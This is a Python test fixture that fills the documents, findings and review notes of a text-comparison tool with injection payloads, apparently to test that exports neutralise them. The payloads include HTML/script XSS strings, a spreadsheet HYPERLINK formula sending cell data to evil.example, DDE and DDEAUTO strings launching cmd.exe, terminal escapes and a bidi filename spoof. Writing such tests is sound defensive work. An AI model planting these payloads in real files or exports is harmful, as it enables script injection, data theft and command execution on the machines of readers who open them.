"""Documents and a review full of attacks on whatever they are exported to, for tests that none of them comes alive."""

from dataclasses import replace

import comparisons
from crossread.comparison import Comparison, Finding, Place
from crossread.review.action import Decision, Deed, Note, Realigned, Tagged
from crossread.review.review import Review, review_of
from crossread.spin.verdict import Spin, SpinVerdict, SpunSpan
from crossread.text.anchor import quote
from crossread.text.provenance import Provenance
from crossread.text.span import Span
from reviews import log

HTML = (
    "</style></script><script>window.pwned=1;alert(1)</script><img src=x onerror=window.pwned=2>"
    "\"' onload='window.pwned=3 <svg/onload=window.pwned=4><iframe src=javascript:alert(5)>"
    '<a href="javascript:window.pwned=6">x</a><base href=https://evil.example/><meta http-equiv=refresh '
    "content=0;url=https://evil.example/> <link rel=stylesheet href=https://evil.example/x.css>"
)
FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"click")'
FORMULAS = (
    FORMULA,
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1",
    "＝1+1",
    "＠SUM(1)",
    "％0A=1",
)
MARKDOWN = (
    "[x](javascript:alert(1)) ![x](https://evil.example/x.png) <https://evil.example> https://evil.example "
    "www.evil.example a@evil.example [^1] `<b>` **b** ~~s~~ $x$ | a | b | <details open ontoggle=alert(1)>"
)
FIELDS = (
    '{ HYPERLINK "https://evil.example" } { DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" } <w:br/>'
)
CONTROLS = (
    "bell\a null\0 escape\x1b[31mred\x1b]8;;https://evil.example\a del\x7f c1\x9b31m half\ud800 end\uffff"
)
BIDI = "evil\u202egnp.exe\u202c \u2066isolate abc\u05d0"
ATTACKS = (
    HTML,
    *FORMULAS,
    MARKDOWN,
    FIELDS,
    CONTROLS,
    BIDI,
    "# heading",
    "- item",
    "1. one",
    "--- ",
    "> quote",
)
ALL = " ".join((HTML, FORMULA, MARKDOWN, FIELDS, CONTROLS, BIDI))


def comparison() -> Comparison:
    """Two documents in which every word, name and title is an attack."""
    texts = ([*ATTACKS, "# " + HTML, "~ " + FORMULA], ["other", *reversed(ATTACKS)])
    provenance = Provenance(
        source=ALL, part=ALL, size=7, file_digest="0" * 64, read_at=FORMULA, reader=ALL, encoding=ALL,
        left_out=(ALL,), author=ALL, site=ALL, address="javascript:window.pwned=7",
    )  # fmt: skip
    a, b = (
        replace(
            document, title=ALL, name=FORMULA, publisher=ALL, date=FORMULA, language='x"><script>',
            provenance=provenance,
        )
        for document in comparisons.documents(*texts)
    )  # fmt: skip
    whole = Span(0, len(a.text))
    findings = (
        Finding(
            1, ALL, "wording", "high", ALL, ALL, "≠", "", (Place("A", Span(2, 40)), Place("B", Span(0, 5)))
        ),
        Finding(2, FORMULA, "numbers", "low", FORMULA, FORMULA, FORMULA, FORMULA, (Place("A", whole),)),
    )
    spans = (SpunSpan("B", Span(0, 5), FORMULA, (ALL,), "rule", 0.9, True),)
    spin = Spin((SpinVerdict("B", 0.99, "strong", (), (ALL,)),), spans)
    return Comparison((a, b), findings=findings, spin=spin, unfinished=(ALL, FORMULA))


def review(found: Comparison) -> Review:
    """A stranger's review of it: names, notes, tags and ids are attacks too."""
    a = found.documents[0]
    quoted = quote(a.text, a.digest, Span(3, 60))
    deeds: list[Deed] = [
        Decision(ALL, "disputed", ALL, title=ALL),
        Tagged(FORMULA, (FORMULA, HTML)),
        Note(HTML, quoted, "\n".join(ATTACKS), (HTML, FORMULA)),
        Note("lost", replace(quoted, anchor=replace(quoted.anchor, digest="f" * 64)), FORMULA),
        Realigned("align", (), HTML),
    ]
    return review_of(log(deeds, by=HTML + FORMULA))
